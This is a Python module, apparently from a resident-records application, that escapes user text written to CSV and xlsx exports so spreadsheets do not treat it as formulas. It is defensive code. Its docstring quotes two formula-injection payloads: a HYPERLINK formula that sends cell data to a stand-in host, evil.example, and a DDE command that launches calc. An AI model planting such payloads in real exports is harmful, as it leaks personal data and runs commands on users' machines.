"""Writing user text into files a spreadsheet opens (CSV and xlsx) without it turning
into a formula.

A resident's name or note is typed by whoever filled in an imported file, so it may be
``=HYPERLINK("http://evil.example/?leak="&E2,"点击核对")`` or a DDE payload like
``=cmd|' /C calc'!A0``. Excel runs such text as a formula when it opens an export, next
to the ID-card numbers. Every export of the core (and of plugins) writes its cells
through these helpers:

* CSV: :func:`safe_cell` prefixes ``'`` to a value starting with ``= + - @``, a tab or a
  carriage return (the OWASP rule), and to a value starting with ``'`` so that
  :func:`unescape_cell` can undo exactly what was added when a file comes back;
* xlsx: :func:`text_cell` writes a string cell (never a formula) marked "quote prefix",
  so that the text stays text even when someone edits the cell in Excel.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from typing import Any

from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

#: What a spreadsheet takes as the start of a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
#: Put before a value that would start a formula (and before one that starts with it).
ESCAPE = "'"


def safe_cell(value: Any) -> str:
    """``value`` as the text of a CSV cell that a spreadsheet shows as text: ``None`` is
    blank, and a value starting like a formula gets ``'`` in front."""
    text = "" if value is None else str(value)
    if text.startswith(FORMULA_STARTS) or text.startswith(ESCAPE):
        return ESCAPE + text
    return text


def unescape_cell(text: str) -> str:
    """The value :func:`safe_cell` wrote as ``text``: the ``'`` it added is taken off, so
    that an exported file imports back unchanged. A ``'`` before anything else is kept."""
    if text.startswith(ESCAPE) and text[1:2] and text[1:].startswith((*FORMULA_STARTS, ESCAPE)):
        return text[1:]
    return text


def text_cell(sheet: Any, value: Any) -> Any:
    """A write-only xlsx cell holding ``value``: text is a string cell whatever it starts
    with (openpyxl would make ``=…`` a formula), without the control characters xlsx
    cannot hold. Other values (numbers, dates) are written as they are."""
    if not isinstance(value, str):
        return WriteOnlyCell(sheet, value=value)
    text = ILLEGAL_CHARACTERS_RE.sub("", value)
    cell = WriteOnlyCell(sheet, value=text)
    cell.data_type = "s"
    if text.startswith(FORMULA_STARTS):
        cell.quotePrefix = True  # Excel keeps it text when the cell is edited
    return cell


def csv_file(header: list[str], rows: Iterable[Iterable[Any]]) -> bytes:
    """A CSV file of ``rows`` under ``header``, every cell through :func:`safe_cell`,
    with a byte-order mark so that Excel opens Chinese text correctly."""
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer)
    writer.writerow([safe_cell(value) for value in header])
    writer.writerows([safe_cell(value) for value in row] for row in rows)
    return buffer.getvalue().encode("utf-8-sig")
